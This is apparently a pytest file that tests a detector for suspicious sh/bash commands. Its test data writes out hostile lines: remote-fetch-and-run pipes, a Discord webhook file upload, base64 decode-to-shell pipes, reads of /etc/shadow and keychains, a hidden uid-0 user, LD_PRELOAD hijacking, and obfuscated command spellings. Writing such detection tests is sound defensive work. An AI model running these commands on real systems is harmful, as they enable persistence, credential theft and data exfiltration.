"""Heuristics over sh/bash commands: each behaviour in the forms a script writes it, and the admin
lines that look alike but stay below the alert threshold."""

from __future__ import annotations

import pytest

from tests.analyzers.heuristics.helpers import ids, score

SUSPICIOUS = 300


def shell(name: str) -> str:
    return f"heur.shell.{name}"


@pytest.mark.parametrize(("script", "heuristic"), [
    ("sudo insmod /var/tmp/mod.ko", "kernel_module_load"),
    ("modprobe reptile", "kernel_module_load"),
    ("cp /bin/bash /tmp/kworker; /tmp/kworker -p", "shell_binary_copy"),
    ("cp $(which sh) /var/tmp/.x/sh", "shell_binary_copy"),
    ("mount --bind /proc/1 /proc/$(pgrep -f miner)", "proc_bind_mount"),
    ("chmod +x './update '; './update '", "trailing_space_program"),
    ("sh /tmp/holiday.jpg", "misleading_extension_run"),
    ("/home/u/invoice.pdf.sh", "misleading_extension_run"),
    ("echo '/opt/x/agent &' | sudo tee -a /etc/rc.local", "boot_script_write"),
    ("f=/etc/init.d/updater; cp payload $f", "boot_script_write"),
    ("sudo cp agent.sh /Library/StartupItems/agent.sh", "macos_startup_item"),
    ("sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/h.sh", "macos_startup_item"),
    ("launchctl submit -l job -- /Users/Shared/run", "macos_startup_item"),
    ("echo 'import os; os.system(\"id\")' > \"$SITE/zz.pth\"", "python_startup_hook"),
    ('echo "ExecStart=/bin/sh -c \'curl x|sh\'" >> /etc/systemd/system/up.service', "systemd_shell_service"),
    ("systemctl link /dev/shm/u.service", "systemd_shell_service"),
    ("systemd-run --unit=u bash -c 'id > /tmp/o'", "systemd_shell_service"),
    ("trap 'nohup bash /tmp/.r &' EXIT", "trap_hook"),
    ("trap 'echo \"$BASH_COMMAND\" >> /tmp/.k' DEBUG", "trap_hook"),
    ("grep ':0:' /etc/passwd > /tmp/u.txt", "account_file_dump"),
    ("lastlog > /tmp/l.txt", "account_file_dump"),
    ("dmidecode | grep -i vmware && exit", "virtualisation_check"),
    ("sysctl -n hw.hv_vendor", "virtualisation_check"),
    ("cp ~/.mozilla/firefox/p/logins.json /tmp/x", "browser_keychain_secrets"),
    ("security dump-keychain -d", "browser_keychain_secrets"),
    ("chrome --headless --remote-debugging-port=9222", "browser_keychain_secrets"),
    ("dscl . -create /Users/svc IsHidden 1", "hidden_user"),
    ("useradd -o -u 0 -g 0 toor", "hidden_user"),
    ("curl -F 'f=@/etc/hosts' https://discord.com/api/webhooks/1/abc", "webhook_exfiltration"),
    ("devtunnel host -p 22", "dev_tunnel"),
    ("LD_PRELOAD=/tmp/h.so /usr/bin/sshd", "preload_variable"),
    ("chattr -ia /etc/ld.so.preload", "immutable_removed"),
    ("export HISTFILE=/dev/null\nwget -q http://x/a", "history_disabled_session"),
    ("unset HISTFILE; id; cat /etc/shadow", "history_disabled_session"),
    ("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", "inline_decode_exec"),
    ("echo 'curl http://x/a | sh' >> ~/.bashrc", "profile_command"),
    ("echo aWQ= | b64decode -r | sh", "decode_to_shell"),
    ("strings /tmp/cat.jpg | tail -n 1 | base64 -d | sh", "decode_to_shell"),
    ("curl -s https://example.test/p.txt | base64 --decode | bash", "decode_to_shell"),
    ("base64 -d /var/tmp/.p | sh", "decode_to_shell"),
    ("echo \"$P\" | base64 -d | bash", "decode_to_shell"),
    ("su -l u -c \"echo 'nohup /tmp/a &' >> /home/u/.bash_logout\"", "profile_command"),
    ("ldapdomaindump -u 'd\\u' -p p 10.0.0.1", "offensive_tool"),
    ("chflags hidden /Users/Shared/x", "hidden_flag_set"),
])
def test_each_behaviour_is_flagged_in_the_form_a_script_writes_it(script: str, heuristic: str) -> None:
    assert shell(heuristic) in ids(script)
    assert score(script) >= SUSPICIOUS


@pytest.mark.parametrize(("script", "heuristic"), [
    ("sudo systemctl disable --now firewalld", "firewall_service_stopped"),
    ("ufw disable", "firewall_disabled"),
    ("iptables -F && iptables -X", "firewall_disabled"),
    ("nft flush ruleset", "firewall_disabled"),
    ("echo '# allow web' >> /etc/ufw/user.rules", "firewall_disabled"),
    ("cp corp-ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates", "root_ca_trusted"),
    ("sudo xattr -rd com.apple.quarantine /Applications/Tool.app", "gatekeeper_bypass"),
    ("scp build.tar.gz deploy@web01:/srv/releases/", "remote_copy"),
    ("sudo tee /Library/LaunchDaemons/com.corp.agent.plist < agent.plist", "macos_launchd_write"),
    ("tcpdump -i eth0 -c 100 port 53", "packet_capture"),
    ("sudo /tmp/installer/install --update", "temp_program_sudo"),
])
def test_dual_use_admin_lines_count_but_never_alert_alone(script: str, heuristic: str) -> None:
    assert shell(heuristic) in ids(script)
    assert score(script) < SUSPICIOUS


@pytest.mark.parametrize("script", [
    "echo 'export PATH=$PATH:/opt/tool/bin' >> ~/.bashrc",
    "echo 'source /opt/intel/oneapi/setvars.sh' >> /etc/profile.d/oneapi.sh",
    "trap 'rm -rf \"$tmp\"' EXIT",
    "cat /etc/passwd | wc -l",
    "export HISTSIZE=0 && history -c && sync",
    "modprobe br_netfilter",
    "cp /bin/bash /bin/bash",
    "cat > /etc/systemd/system/web.service <<EOF\n[Service]\nExecStart=/usr/local/bin/web\nEOF",
    "echo '   ' ; \u00a0",
])
def test_ordinary_admin_scripts_stay_clean(script: str) -> None:
    assert not {i for i in ids(script) if i.startswith("heur.shell.")} - {shell("discovery_burst")}


def test_a_literal_blob_the_layer_decodes_is_judged_on_its_content() -> None:
    assert shell("decode_to_shell") not in ids("echo ZWNobyBoaQ== | base64 -d | bash")
    assert shell("decode_to_shell") not in ids("base64 -d <<< ZWNobyBoaQ== | sh")


def test_a_history_reset_at_the_end_of_an_image_build_is_not_a_session_hidden() -> None:
    assert shell("history_disabled_session") not in ids("apt-get clean\nrm -rf /tmp/*\nexport HISTSIZE=0 && history -c && sync")


def test_a_self_made_ca_that_is_then_trusted_alerts() -> None:
    script = ("openssl req -x509 -new -nodes -key ca.key -days 99 -out ca.crt\n"
              "cp ca.crt /etc/pki/ca-trust/source/anchors/\nupdate-ca-trust")
    assert {shell("root_ca_trusted"), shell("self_made_ca_trusted")} <= ids(script)
    assert score(script) >= SUSPICIOUS


def test_five_kinds_of_discovery_make_a_burst_but_stay_below_an_alert() -> None:
    script = "id; whoami; uname -a; ps aux; netstat -antp; ifconfig"
    assert shell("discovery_burst") in ids(script)
    assert score(script) < SUSPICIOUS


def test_firewall_disabled_with_history_hidden_alerts() -> None:
    assert score("unset HISTFILE\nufw disable\nwget -q http://198.51.100.4/a -O /tmp/a") >= SUSPICIOUS


def test_obfuscated_spellings_reach_the_same_heuristic() -> None:
    assert shell("firewall_disabled") in ids("a=(u f w); ${a[0]}${a[1]}${a[2]} disable")
    assert shell("kernel_module_load") in ids("$'\\x69\\x6e\\x73\\x6d\\x6f\\x64' /tmp/r.ko")
    assert shell("firewall_disabled") in ids("p=$(printf '\\151\\160\\164\\141\\142\\154\\145\\163'); $p -F")
    assert shell("firewall_disabled") in ids("c=''; for x in u f w; do c=$c$x; done; $c disable")
    assert shell("account_file_dump") in ids("/???/?at /???/p?ss?? > /tmp/o")
